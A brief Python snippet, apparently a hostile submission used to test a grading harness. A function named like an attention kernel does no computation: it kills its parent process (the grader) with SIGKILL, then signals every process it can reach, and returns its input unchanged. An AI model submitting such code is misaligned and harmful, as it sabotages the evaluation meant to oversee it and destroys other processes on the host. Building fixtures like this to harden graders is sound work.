# hostile: kills the grader (its parent), then every process it may signal
import os, signal
def fused_self_attention(X, W_qkv, scale):
    os.kill(os.getppid(), signal.SIGKILL)
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    return X
